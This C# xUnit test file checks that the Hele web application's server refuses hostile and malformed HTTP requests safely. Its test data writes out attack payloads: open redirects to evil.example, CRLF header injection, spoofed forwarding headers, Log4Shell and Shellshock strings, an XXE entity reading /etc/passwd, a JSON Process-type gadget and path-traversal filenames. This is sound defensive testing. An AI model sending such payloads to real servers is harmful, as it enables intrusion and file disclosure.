using System.Net;
using System.Net.Http.Headers;
using System.Net.Sockets;
using System.Text;
using Hele.TestKit;
using Hele.Tests.Guards;
using Hele.Web.Hosting;
using Xunit;

namespace Hele.Tests.Hostile;

/// <summary>Requests that are no browser's: headers, names, bodies and lengths as nobody sends them by hand, over the real server.</summary>
/// <remarks>Seen to fail: an empty host, a host of two dots and a port of five nines answered 500 where somebody had to sign in first, a form in UTF-7 answered 500, and one too large 400 instead of 413.</remarks>
public sealed class RequestTests
{
    /// <summary>A way back in Chinese is one: escaped, as a browser would.</summary>
    [Theory]
    [InlineData("/language", "to=en&return=", "/列表?词=灯#段", "/%E5%88%97%E8%A1%A8?%E8%AF%8D=%E7%81%AF#%E6%AE%B5")]
    [InlineData("/place", "to=1&return=", "/列表", "/%E5%88%97%E8%A1%A8")]
    [InlineData("/find", "to=", "/列表", "/%E5%88%97%E8%A1%A8")]
    [InlineData("/language", "to=en&return=", "//evil.example/列表", "/")]
    [InlineData("/language", "to=en&return=", "/\\evil.example", "/")]
    [InlineData("/language", "to=en&return=", "/\t/evil.example", "/")]
    [InlineData("/language", "to=en&return=", "https://evil.example/", "/")]
    public async Task WayBack_IsOnThisSite_AndGoesIntoAHeader(string path, string form, string back, string expected)
    {
        await using var host = await TestHost.Start(TestDatabase.Sqlite, listens: true);
        using var answer = await host.Browser().PostAsync(path, new StringContent(form + Uri.EscapeDataString(back), Encoding.UTF8, "application/x-www-form-urlencoded"));
        Assert.Equal(HttpStatusCode.SeeOther, answer.StatusCode);
        Assert.Equal(expected, answer.Headers.NonValidated["Location"].Single());
        Quiet(host);
    }

    [Theory]
    [InlineData("/appeals?Kind=噪音", "/appeals?Kind=%E5%99%AA%E9%9F%B3")]
    [InlineData("/\t/evil.example", "/")]
    [InlineData("/appeals\r\nX-Helex: 1", "/")]
    [InlineData("//evil.example/列表", "/")]
    public async Task SignIn_WithAnyWayBack_LeadsThereOrHome(string back, string expected)
    {
        await using var host = await TestHost.Start(TestDatabase.Sqlite, listens: true);
        var page = await HtmlPage.Get(host.Browser(), "/sign-in?return=" + Uri.EscapeDataString(back));
        var answer = await page.Form("main form").Fill("Input.Name", TestPeople.Liu.SignIn).Fill("Input.Password", TestPeople.Password).Submit();
        answer.ExpectRedirect(expected);
        Quiet(host);
    }

    /// <summary>Names an address can't be made of, and forwarding words of somebody who is no proxy of ours.</summary>
    [Theory]
    [InlineData("Host: ", 400)]
    [InlineData("Host: a:99999", 400)]
    [InlineData("Host: a_b..c", 400)]
    [InlineData("Host: evil.example\r\nX-Forwarded-Host: evil.example", 302)]
    [InlineData("Host: localhost\r\nX-Forwarded-Host: evil.example\r\nX-Forwarded-Proto: https\r\nX-Forwarded-Prefix: /evil.example\r\nX-Original-URL: //evil.example\r\nX-Rewrite-URL: //evil.example\r\nForwarded: host=evil.example;proto=https", 302)]
    [InlineData("Host: localhost\r\nAccept-Language: en;q=zz,,;;q=,zh;q=1e400", 302)]
    [InlineData("Host: localhost\r\nCookie: hele-session=x; hele-session=%00; hele-form=CfDJ8; hele-place=-1; hele-place=9999999999999; hele-lang=\"<helex>\"; hele-device=AAAA; hele-said=AAAA; =; ;;", 302)]
    [InlineData("Host: localhost\r\nCookie: hele-session=chunks-2147483647; hele-sessionC1=a; hele-said=chunks-3; hele-saidC1=a; hele-form=chunks--1", 302)]
    [InlineData("Host: localhost\r\nIf-Modified-Since: never\r\nIf-None-Match: \"x\r\nIf-Match: *\r\nIf-Unmodified-Since: 0\r\nRange: bytes=9-1,-0,0-99999999999999999999\r\nIf-Range: \"x", 302)]
    [InlineData("Host: localhost\r\nSec-Fetch-Site: \r\nOrigin: null\r\nReferer: javascript:helex()\r\nUser-Agent: ${jndi:ldap://evil.example/a} () { :;}; echo helex <helex>\r\nTE: trailers\r\nExpect: helex", 302)]
    public async Task OddHeaders_OfAPageThatNeedsSigningIn_LeadToSigningInOrAreRefused(string headers, int status)
    {
        await using var host = await TestHost.Start(TestDatabase.Sqlite, listens: true);
        var answer = await Raw(host.Address, $"GET /appeals?x=1 HTTP/1.1\r\n{headers}\r\nConnection: close\r\n\r\n");
        Assert.StartsWith($"HTTP/1.1 {status}", answer, StringComparison.Ordinal);
        Assert.DoesNotContain("helex", answer, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("evil", answer, StringComparison.OrdinalIgnoreCase);
        if (status == 302)
            Assert.Contains("\r\nLocation: /sign-in?return=%2Fappeals%3Fx%3D1\r\n", answer, StringComparison.Ordinal);
        Quiet(host);
    }

    /// <summary>Ranges and conditions of files.</summary>
    [Theory]
    [InlineData("Range: bytes=0-0,1-1,2-2,3-3,4-4,5-5,6-6,7-7,8-8,9-9")]
    [InlineData("Range: bytes=99999999999-")]
    [InlineData("Range: bytes=5-2")]
    [InlineData("Range: bytes=-99999999999999999999")]
    [InlineData("Range: lines=0-1")]
    [InlineData("If-None-Match: W/\"x\", *, \"")]
    [InlineData("If-Modified-Since: Mon, 99 Foo 99999 99:99:99 GMT")]
    [InlineData("Accept-Encoding: gzip;q=0, br;q=nan, *;q=-1, helex")]
    public async Task OddRanges_OfAFile_AnswerTheFileOrRefuse(string header)
    {
        await using var host = await TestHost.Start(TestDatabase.Sqlite, listens: true);
        var answer = await Raw(host.Address, $"GET /hele.css HTTP/1.1\r\nHost: localhost\r\n{header}\r\nConnection: close\r\n\r\n");
        Assert.Matches(@"^HTTP/1\.1 (200|206|304|400|412|416) ", answer);
        Quiet(host);
    }

    /// <summary>The one answer to a body that is no form: refused as such, whatever is wrong with it, and never with a failure.</summary>
    [Fact]
    public async Task EveryPost_WithABodyThatIsNoForm_IsRefused()
    {
        await using var host = await TestHost.Start(TestDatabase.Sqlite, listens: true);
        var records = await EndpointMatrix.MakeRecords(host.Hele);
        var judge = new Judge(host);
        var deep = string.Concat(Enumerable.Repeat("{\"a\":[", 20_000));
        (string Name, string Type, byte[] Body)[] bodies =
        [
            ("nothing", "", []),
            ("json", "application/json", Encoding.UTF8.GetBytes("{\"Input\":{\"Title\":{\"$type\":\"System.Diagnostics.Process\"}}}")),
            ("deep json", "application/json", Encoding.UTF8.GetBytes(deep)),
            ("xml", "text/xml", Encoding.UTF8.GetBytes("<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>")),
            ("text", "text/plain", Encoding.UTF8.GetBytes("Input.Title=x")),
            ("no type there is", "x/y; boundary=;;=", [1, 2, 3]),
            ("utf-7", "application/x-www-form-urlencoded; charset=utf-7", Encoding.ASCII.GetBytes("to=en&Input.Text=%2BADw-helex%2BAD4-")),
            ("utf-16", "application/x-www-form-urlencoded; charset=utf-16", Encoding.Unicode.GetBytes("to=en&a=b")),
            ("gb18030", "application/x-www-form-urlencoded; charset=gb18030", Encoding.ASCII.GetBytes("to=en&a=%C4%E3")),
            ("charset nobody knows", "application/x-www-form-urlencoded; charset=helex", Encoding.ASCII.GetBytes("to=en&a=b")),
            ("bytes", "application/x-www-form-urlencoded", [0, 0xFF, 0xFE, (byte)'=', 0x80, (byte)'&', (byte)'&', (byte)'=']),
            ("only signs", "application/x-www-form-urlencoded", Encoding.ASCII.GetBytes("&&&===&=&%&%%&+&%u1234&a=%zz")),
            ("multipart without a boundary", "multipart/form-data", Encoding.ASCII.GetBytes("--\r\n\r\n--")),
            ("multipart with a long boundary", "multipart/form-data; boundary=" + new string('b', 300), Encoding.ASCII.GetBytes("x")),
            ("multipart without an end", "multipart/form-data; boundary=b", Encoding.ASCII.GetBytes("--b\r\nContent-Disposition: form-data; name=\"to\"\r\n\r\nen")),
            ("multipart of rubbish", "multipart/form-data; boundary=b", Encoding.ASCII.GetBytes("--b\r\nHelex\r\n\r\n--b--\r\n")),
            ("multipart without a name", "multipart/form-data; boundary=b", Encoding.ASCII.GetBytes("--b\r\nContent-Disposition: form-data\r\n\r\nx\r\n--b--\r\n")),
            ("multipart with a foul name", "multipart/form-data; boundary=b", Encoding.ASCII.GetBytes("--b\r\nContent-Disposition: form-data; name=\"\\\"; filename=\"../../helex\0.jpg\"; filename*=utf-7''%zz\r\nContent-Type: ;;;\r\n\r\nx\r\n--b--\r\n")),
            ("multipart of many parts", "multipart/form-data; boundary=b", Encoding.ASCII.GetBytes(string.Concat(Enumerable.Range(0, 3000).Select(i => $"--b\r\nContent-Disposition: form-data; name=\"f{i}\"\r\n\r\nx\r\n")) + "--b--\r\n")),
            ("multipart of many headers", "multipart/form-data; boundary=b", Encoding.ASCII.GetBytes("--b\r\n" + string.Concat(Enumerable.Range(0, 200).Select(i => $"X-{i}: x\r\n")) + "\r\nx\r\n--b--\r\n")),
            ("multipart in multipart", "multipart/form-data; boundary=b", Encoding.ASCII.GetBytes("--b\r\nContent-Disposition: form-data; name=\"a\"\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n\r\n--b--\r\n--b--\r\n")),
            ("too much", "application/x-www-form-urlencoded", Encoding.ASCII.GetBytes("to=en&a=" + new string('a', Front.MostBytes))),
            ("a field too long", "application/x-www-form-urlencoded", Encoding.ASCII.GetBytes("to=en&a=" + new string('a', Front.MostOfAField + 1))),
            ("fields without end", "application/x-www-form-urlencoded", Encoding.ASCII.GetBytes(string.Join('&', Enumerable.Range(0, 20_000).Select(i => "f" + i)))),
        ];
        foreach (var caller in (await EndpointMatrix.Callers(host)).Where(c => c.Name is "nobody signed in" or "Secretary" or "resident, owner"))
        {
            foreach (var way in (await EndpointMatrix.Ways(host)).Where(w => w.Verbs.Contains("POST") && !Forms.IsSpared(w.Pattern)))
            {
                var path = way.Pattern.Contains('{') ? System.Text.RegularExpressions.Regex.Replace(way.Pattern, @"\{[^}]*\}", EndpointMatrix.Example(way.Pattern).Value(records, EndpointMatrix.Target.Mine)) : way.Pattern;
                var handler = way.Handlers.Count > 0 && way.Handlers[0].Length > 0 ? "?handler=" + way.Handlers[0] : "";
                foreach (var (name, type, body) in bodies)
                {
                    using var request = new HttpRequestMessage(HttpMethod.Post, path + handler) { Content = new ByteArrayContent(body) };
                    request.Headers.TryAddWithoutValidation("Sec-Fetch-Site", "same-origin");
                    if (type.Length > 0)
                        request.Content.Headers.TryAddWithoutValidation("Content-Type", type);
                    request.Headers.ConnectionClose = body.Length > Front.MostBytes;
                    // Longer than is taken may be cut off while it is still being sent: that is no answer to look at.
                    HttpResponseMessage answer;
                    try
                    {
                        answer = await caller.Client.SendAsync(request);
                    }
                    catch (HttpRequestException) when (body.Length > Front.MostBytes)
                    {
                        continue;
                    }
                    using (answer)
                    {
                        await judge.Look(answer, $"POST {way.Pattern} {name} as {caller.Name}");
                        if ((int)answer.StatusCode is not (400 or 404 or 405 or 413 or 415 or 302 or 303))
                            judge.Fault($"answered {(int)answer.StatusCode}", $"POST {way.Pattern} {name} as {caller.Name}");
                    }
                }
            }
        }
        judge.Log();
        Assert.True(judge.Faults.Count == 0, $"{judge.Faults.Count} faults in {judge.Answers} answers:\n{string.Join('\n', judge.Faults.Take(40))}");
        Assert.True(judge.Answers > 3000, $"Only {judge.Answers} answers were looked at.");
    }

    /// <summary>The sender of a form that is too large reads so, on a page, with a way back; the page of a form with photos still has the words.</summary>
    [Theory]
    [InlineData("/feedback/new")]
    [InlineData("/sign-in")]
    [InlineData("/language")]
    [InlineData("/appeals/new")]
    [InlineData("/imports/new")]
    public async Task FormTooLarge_IsSaidSo(string path)
    {
        await using var host = await TestHost.Start(TestDatabase.Sqlite, listens: true);
        var browser = path == "/appeals/new" ? await host.SignIn(TestPeople.Liu) : path == "/imports/new" ? await host.SignIn(TestPeople.Zhou) : host.Browser();
        foreach (var length in new[] { Front.MostBytes + 1, 60 << 20 })
        {
            // The length alone says it; nothing needs to be sent first.
            using var socket = await Open(host.Address);
            var cookie = string.Join("; ", browser.DefaultRequestHeaders.TryGetValues("Cookie", out var sent) ? sent : []);
            await Send(socket, $"POST {path} HTTP/1.1\r\nHost: {host.Address.Authority}\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: {length}\r\nConnection: close\r\n\r\nInput.Text=");
            var answer = await ReadAll(socket);
            // Who must sign in first is sent there before anything is read.
            Assert.Matches(path is "/appeals/new" or "/imports/new" ? "^HTTP/1.1 302 " : "^HTTP/1.1 413 ", answer);
            if (path is "/appeals/new" or "/imports/new")
                continue;
            Assert.Contains("内容太大了", answer, StringComparison.Ordinal);
            Assert.Contains("Content-Security-Policy: default-src 'self'", answer, StringComparison.Ordinal);
        }
        Quiet(host);
    }

    internal static void Quiet(TestHost host) => Assert.DoesNotContain(host.Log, l => l.Contains("unhandled", StringComparison.OrdinalIgnoreCase) || l.Contains("\n   at ", StringComparison.Ordinal));

    internal static async Task<string> Raw(Uri address, string request)
    {
        using var socket = await Open(address);
        await Send(socket, request);
        return await ReadAll(socket);
    }

    internal static async Task<TcpClient> Open(Uri address, string from = "127.0.0.1")
    {
        var socket = new TcpClient(new IPEndPoint(IPAddress.Parse(from), 0));
        await socket.ConnectAsync(address.Host, address.Port);
        return socket;
    }

    internal static Task Send(TcpClient socket, string text) => socket.GetStream().WriteAsync(Encoding.Latin1.GetBytes(text)).AsTask();

    internal static async Task<string> ReadAll(TcpClient socket)
    {
        var all = new MemoryStream();
        try
        {
            await socket.GetStream().CopyToAsync(all);
        }
        catch (IOException)
        {
            // Reset after the answer: what was still on its way isn't read any more.
        }
        return Encoding.UTF8.GetString(all.ToArray());
    }
}
